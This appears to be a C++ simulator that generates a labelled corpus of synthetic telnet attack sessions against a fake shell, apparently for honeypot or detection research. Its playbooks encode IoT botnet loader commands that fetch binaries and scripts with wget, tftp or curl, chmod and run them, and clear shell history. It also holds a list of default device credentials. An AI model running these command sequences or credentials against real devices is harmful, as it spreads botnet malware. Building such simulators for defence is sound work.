#include "loadermine/simulator.hpp"

#include <algorithm>
#include <fstream>
#include <sstream>
#include <stdexcept>

#include <fmt/format.h>

namespace loadermine {

const Phase* Playbook::phase(std::string_view name) const {
  for (const auto& p : phases) {
    if (p.name == name) return &p;
  }
  return nullptr;
}

namespace {

Phase make_phase(std::size_t index, std::vector<std::string> commands) {
  return {std::string(kPhaseNames.at(index)), std::move(commands)};
}

Playbook nippon_kami() {
  Playbook p;
  p.family_name = "nippon-kami";
  p.phases = {
      make_phase(0, {"enable", "system", "shell", "sh", "/bin/busybox ps"}),
      make_phase(1, {"/bin/busybox cat /proc/mounts",
                     "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/proc' > /proc/.nippon; /bin/busybox cat /proc/.nippon; /bin/busybox rm /proc/.nippon",
                     "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon",
                     "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/var' > /var/.nippon; /bin/busybox cat /var/.nippon; /bin/busybox rm /var/.nippon"}),
      make_phase(2, {"cd /var/", "/bin/busybox rm -rf .sh .t .human"}),
      make_phase(3, {"/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper",
                     "/bin/busybox cat /bin/echo", "/bin/busybox wget; /bin/busybox tftp"}),
      make_phase(4, {"/bin/busybox wget http://{IP}:80/bins/{F}.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper",
                     "./dvrHelper telnet.arm", "/bin/busybox rm -rf dvrHelper"}),
      make_phase(5, {"/bin/busybox {Q}"}),
  };
  p.mutation.query_mode = QueryMode::kFixed;
  p.mutation.query_words = {"KAMI"};
  p.mutation.swappable_phases = {"initialize"};
  return p;
}

Playbook sefa() {
  Playbook p;
  p.family_name = "sefa";
  p.phases = {
      make_phase(0, {"enable", "system", "shell", "sh", "/bin/busybox ps", "/bin/busybox hostname SEFA_ID:{D4}"}),
      make_phase(1, {"/bin/busybox cat /proc/mounts",
                     "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/proc' > /proc/.nippon; /bin/busybox cat /proc/.nippon; /bin/busybox rm /proc/.nippon",
                     "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/var' > /var/.nippon; /bin/busybox cat /var/.nippon; /bin/busybox rm /var/.nippon"}),
      make_phase(2, {"cd /var/", "/bin/busybox rm -rf .sh .t .human"}),
      make_phase(3, {"/bin/busybox cp /bin/echo sefaexecbi; >sefaexecbi; /bin/busybox chmod 777 sefaexecbi",
                     "/bin/busybox cat /bin/echo", "/bin/busybox wget; /bin/busybox tftp"}),
      make_phase(4, {"/bin/busybox wget http://{IP}:80/sefa/sefa.arm -O - > sefaexecbi; /bin/busybox chmod 777 sefaexecbi",
                     "./sefaexecbi sefa.arm", "/bin/busybox rm -rf sefaexecbi"}),
      make_phase(5, {"/bin/busybox SEFA{Q}"}),
  };
  p.mutation.query_mode = QueryMode::kFixed;
  p.mutation.query_words = {"ID"};
  p.mutation.swappable_phases = {"initialize"};
  return p;
}

Playbook no_path_check() {
  Playbook p;
  p.family_name = "no-path-check";
  p.phases = {
      make_phase(0, {"enable", "shell", "sh"}),
      make_phase(1, {}),
      make_phase(2, {}),
      make_phase(3, {"/bin/busybox cat /bin/busybox || while read i; do echo $i; done < /bin/busybox"}),
      make_phase(4, {"/bin/busybox wget http://{IP}:80/{F}/{ID}.arm7 -O - > {ID}; /bin/busybox chmod 777 {ID}",
                     "./{ID} telnet.arm7", "/bin/busybox rm -rf {ID}"}),
      make_phase(5, {"/bin/busybox {Q}"}),
  };
  p.mutation.query_mode = QueryMode::kHostWord;
  p.mutation.query_words = {"UNSTABLE", "DEMONS", "HORIZON"};
  p.mutation.identity_words = {"nvr", "dvr", "cam"};
  return p;
}

Playbook switchblades() {
  Playbook p;
  p.family_name = "switchblades";
  p.phases = {
      make_phase(0, {"enable", "system", "shell", "sh", "linuxshell"}),
      make_phase(1, {">/tmp/.file && cd /tmp/", ">/var/.file && cd /var/", ">/dev/.file && cd /dev/",
                     ">/var/tmp/.file && cd /var/tmp/", ">/mnt/.file && cd /mnt/"}),
      make_phase(2, {"rm -rf {ID}.arm {ID}.bot"}),
      make_phase(3, {"/bin/busybox cat /bin/echo"}),
      make_phase(4, {"/bin/busybox wget http://{IP}/{F}/{ID}.arm -O - > .{ID}; /bin/busybox chmod 777 .{ID}",
                     "./.{ID} switch", "/bin/busybox rm -rf .{ID}"}),
      make_phase(5, {"/bin/busybox {Q}"}),
  };
  p.mutation.query_mode = QueryMode::kFixed;
  p.mutation.query_words = {"SBLADE"};
  p.mutation.identity_words = {"SwitchBlades", "Layer1", "skull"};
  p.mutation.swappable_phases = {"get-working-directory"};
  return p;
}

Playbook six_chars() {
  Playbook p;
  p.family_name = "6-chars";
  p.phases = {
      make_phase(0, {"wget"}),
      make_phase(1, {"cd /tmp && >.x && cd /tmp", "cd /var/run && >.x && cd /var/run", "cd /mnt && >.x && cd /mnt"}),
      make_phase(2, {"rm -rf .i"}),
      make_phase(3, {"cat /bin/echo"}),
      make_phase(4, {"wget http://{IP}/i -O .i || curl -o .i http://{IP}/i || tftp -g -r i {IP} || ftpget {IP} .i i",
                     "chmod 777 .i; ./.i telnet.loader"}),
      make_phase(5, {"echo -e '{Q}'"}),
  };
  p.mutation.query_mode = QueryMode::kSessionEscaped;
  p.mutation.query_length = 6;
  return p;
}

Playbook whattttttlol() {
  Playbook p;
  p.family_name = "whattttttlol";
  p.phases = {
      make_phase(0, {"ls /home", "uname -a"}),
      make_phase(1, {"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /"}),
      make_phase(2, {}),
      make_phase(3, {}),
      make_phase(4, {"wget http://{IP}/whattttttlol1.sh; chmod +x whattttttlol1.sh; sh whattttttlol1.sh",
                     "wget http://{IP}/whattttttlol2.sh; chmod +x whattttttlol2.sh; sh whattttttlol2.sh",
                     "tftp {IP} -c get whattttttlol3.sh; chmod +x whattttttlol3.sh; sh whattttttlol3.sh",
                     "tftp -r whattttttlol4.sh -g {IP}; chmod +x whattttttlol4.sh; sh whattttttlol4.sh",
                     "rm -rf whattttttlol*.sh; history -c; echo {F}"}),
      make_phase(5, {}),
  };
  p.mutation.swappable_phases = {"drop-and-run"};
  return p;
}

Playbook six_chars_scanner() {
  Playbook p;
  p.family_name = "6-chars-scanner";
  p.kind = FamilyKind::kScanner;
  p.phases = {
      make_phase(0, {"sh", "shell"}),
      make_phase(1, {}),
      make_phase(2, {}),
      make_phase(3, {"cat /proc/cpuinfo", "uname -a", "cat /proc/version"}),
      make_phase(4, {}),
      make_phase(5, {"echo -e '{Q}'"}),
  };
  p.mutation.query_mode = QueryMode::kSessionEscaped;
  p.mutation.query_length = 6;
  p.mutation.swappable_phases = {"test-environment"};
  return p;
}

Playbook probe_scanner() {
  Playbook p;
  p.family_name = "probe-scanner";
  p.kind = FamilyKind::kScanner;
  p.phases = {
      make_phase(0, {"enable", "system", "shell", "sh"}),
      make_phase(1, {"/bin/busybox cat /proc/mounts"}),
      make_phase(2, {}),
      make_phase(3, {"/bin/busybox ps", "/bin/busybox uname -m"}),
      make_phase(4, {}),
      make_phase(5, {"/bin/busybox {Q}"}),
  };
  p.mutation.query_mode = QueryMode::kSessionAlnum;
  p.mutation.query_length = 5;
  p.mutation.swappable_phases = {"initialize"};
  return p;
}

std::uint64_t splitmix64(std::uint64_t x) {
  x += 0x9e3779b97f4a7c15ULL;
  x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ULL;
  x = (x ^ (x >> 27)) * 0x94d049bb133111ebULL;
  return x ^ (x >> 31);
}

std::uint64_t mix(std::uint64_t a, std::uint64_t b) { return splitmix64(a ^ splitmix64(b)); }

// std::mt19937_64 output is fixed by the standard; distributions are not, so
// draws use plain modulo.
std::size_t pick(std::mt19937_64& rng, std::size_t n) { return n == 0 ? 0 : static_cast<std::size_t>(rng() % n); }

std::string random_alnum(std::mt19937_64& rng, std::size_t len) {
  static constexpr std::string_view kAlphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
  std::string s;
  for (std::size_t i = 0; i < len; ++i) s.push_back(kAlphabet[pick(rng, kAlphabet.size())]);
  return s;
}

std::string random_escaped(std::mt19937_64& rng, std::size_t len) {
  std::string s;
  for (std::size_t i = 0; i < len; ++i) s += fmt::format("\\x{:02x}", 'a' + static_cast<int>(pick(rng, 26)));
  return s;
}

std::string random_digits(std::mt19937_64& rng, std::size_t len) {
  std::string s;
  for (std::size_t i = 0; i < len; ++i) s.push_back(static_cast<char>('0' + pick(rng, 10)));
  return s;
}

void replace_all(std::string& s, std::string_view from, std::string_view to) {
  for (std::size_t pos = s.find(from); pos != std::string::npos; pos = s.find(from, pos + to.size())) {
    s.replace(pos, from.size(), to);
  }
}

struct Credentials {
  std::string_view user;
  std::string_view pass;
};

constexpr std::array<Credentials, 6> kCredentials = {{{"root", "vizxv"},
                                                      {"root", "xc3511"},
                                                      {"admin", "admin"},
                                                      {"root", "default"},
                                                      {"support", "support"},
                                                      {"root", "12345"}}};

std::mt19937_64 session_rng(const SyntheticHost& host, std::size_t session_index) {
  return std::mt19937_64(mix(host.seed, 0x5e55'0000ULL + session_index));
}

std::string documentation_ip(std::size_t index) {
  static constexpr std::array<std::string_view, 3> kRanges = {"192.0.2", "198.51.100", "203.0.113"};
  if (index >= kRanges.size() * 254) throw std::invalid_argument("too many synthetic hosts for documentation ranges");
  return fmt::format("{}.{}", kRanges[index / 254], index % 254 + 1);
}

}  // namespace

std::vector<Playbook> builtin_playbooks() {
  return {nippon_kami(),  sefa(),         no_path_check(),     switchblades(),
          six_chars(),    whattttttlol(), six_chars_scanner(), probe_scanner()};
}

std::vector<std::string> render_session(const Playbook& playbook, const SyntheticHost& host,
                                        std::size_t session_index) {
  const auto& m = playbook.mutation;
  std::mt19937_64 host_rng(host.seed);
  const std::string identity = m.identity_words.empty() ? "" : m.identity_words[pick(host_rng, m.identity_words.size())];
  const std::string host_word = m.query_words.empty() ? "" : m.query_words[pick(host_rng, m.query_words.size())];

  auto rng = session_rng(host, session_index);
  rng.discard(2);  // credential draws
  std::string query;
  switch (m.query_mode) {
    case QueryMode::kNone: break;
    case QueryMode::kHostWord: query = host_word; break;
    case QueryMode::kFixed: query = m.query_words.empty() ? "" : m.query_words.front(); break;
    case QueryMode::kSessionAlnum: query = random_alnum(rng, m.query_length); break;
    case QueryMode::kSessionEscaped: query = random_escaped(rng, m.query_length); break;
  }
  const std::string digits = random_digits(rng, 4);
  const std::string file = random_alnum(rng, m.file_name_length);

  auto expand = [&](std::string text) {
    replace_all(text, "{Q}", query);
    replace_all(text, "{ID}", identity);
    replace_all(text, "{D4}", digits);
    replace_all(text, "{F}", file);
    replace_all(text, "{IP}", host.host_id);
    return text;
  };

  std::vector<Phase> phases = playbook.phases;
  if (!m.swappable_phases.empty() && pick(rng, 2) == 1) {
    std::vector<Phase*> candidates;
    for (auto& ph : phases) {
      if (ph.commands.size() >= 2 &&
          std::find(m.swappable_phases.begin(), m.swappable_phases.end(), ph.name) != m.swappable_phases.end()) {
        candidates.push_back(&ph);
      }
    }
    if (!candidates.empty()) {
      auto& cmds = candidates[pick(rng, candidates.size())]->commands;
      const std::size_t i = pick(rng, cmds.size() - 1);
      std::swap(cmds[i], cmds[i + 1]);
    }
  }

  std::string suffix;
  for (const auto& ph : phases) {
    if (ph.name == kPhaseNames[5] && !ph.commands.empty()) suffix = "; " + expand(ph.commands.front());
  }

  std::vector<std::string> lines;
  for (const auto& ph : phases) {
    if (ph.name == kPhaseNames[5]) continue;
    for (const auto& cmd : ph.commands) lines.push_back(expand(cmd) + suffix);
  }
  if (!suffix.empty()) lines.push_back(suffix.substr(2));
  return lines;
}

std::vector<Bytes> session_requests(const Playbook& playbook, const SyntheticHost& host, std::size_t session_index) {
  auto rng = session_rng(host, session_index);
  const auto& creds = kCredentials[pick(rng, kCredentials.size())];
  rng.discard(1);
  std::vector<Bytes> requests;
  requests.push_back(Bytes("\xff\xfc\x01\xff\xfd\x03", 6));  // IAC WONT ECHO, IAC DO SGA
  requests.push_back(std::string(creds.user) + "\r\n");
  requests.push_back(std::string(creds.pass) + "\r\n");
  for (auto& line : render_session(playbook, host, session_index)) requests.push_back(line + "\r\n");
  return requests;
}

GeneratedCorpus generate(const std::vector<Playbook>& playbooks, std::size_t hosts_per_family,
                         std::size_t sessions_per_host, std::uint64_t seed, const ShellProfile& profile) {
  if (playbooks.empty() || hosts_per_family == 0 || sessions_per_host == 0) {
    throw std::invalid_argument("simulator counts must be at least 1");
  }
  using namespace std::chrono;
  const Timestamp base = sys_days{year{2021} / December / 1};
  const std::size_t total_hosts = playbooks.size() * hosts_per_family;

  GeneratedCorpus corpus;
  for (std::size_t s = 0; s < sessions_per_host; ++s) {
    for (std::size_t h = 0; h < hosts_per_family; ++h) {
      for (std::size_t f = 0; f < playbooks.size(); ++f) {
        const std::size_t host_index = f * hosts_per_family + h;
        SyntheticHost host{documentation_ip(host_index), playbooks[f].family_name, mix(seed, host_index),
                           sessions_per_host};

        Conversation conv;
        conv.session_id = fmt::format("ctl-{:02}-{:03}-{:03}", f, h, s);
        conv.peer_addr = fmt::format("{}:{}", host.host_id, 40000 + (host_index * 131 + s * 17) % 20000);
        conv.local_port = 23;
        conv.origin_tag = OriginTag::kControlGroup;
        conv.started_at = base + minutes((s * total_hosts + h * playbooks.size() + f) * 3);

        Timestamp t = conv.started_at;
        auto tick = [&t] { return t += milliseconds(40); };
        FakeShellSession shell(profile);
        conv.messages.push_back({Direction::kFromHoneypot, shell.start(), tick()});
        for (const auto& request : session_requests(playbooks[f], host, s)) {
          conv.messages.push_back({Direction::kToHoneypot, request, tick()});
          auto response = shell.feed(request);
          if (!response.empty()) conv.messages.push_back({Direction::kFromHoneypot, std::move(response), tick()});
        }
        conv.ended_at = tick();
        corpus.conversations.push_back(std::move(conv));
        corpus.labels.push_back({corpus.conversations.back().session_id, host.host_id, host.family_name});
      }
    }
  }
  return corpus;
}

void write_labels(const std::filesystem::path& path, const std::vector<SessionLabel>& labels) {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  if (!out) throw std::runtime_error(fmt::format("cannot write {}", path.string()));
  out << "session_id,host,family\n";
  for (const auto& l : labels) out << l.session_id << ',' << l.host << ',' << l.family << '\n';
}

std::vector<SessionLabel> read_labels(const std::filesystem::path& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw std::runtime_error(fmt::format("cannot read {}", path.string()));
  std::vector<SessionLabel> labels;
  std::string line;
  bool header = true;
  while (std::getline(in, line)) {
    if (header) {
      header = false;
      continue;
    }
    if (line.empty()) continue;
    std::stringstream ss(line);
    SessionLabel l;
    if (!std::getline(ss, l.session_id, ',') || !std::getline(ss, l.host, ',') || !std::getline(ss, l.family)) {
      throw FormatError(fmt::format("bad label row '{}'", line));
    }
    labels.push_back(std::move(l));
  }
  return labels;
}

}  // namespace loadermine
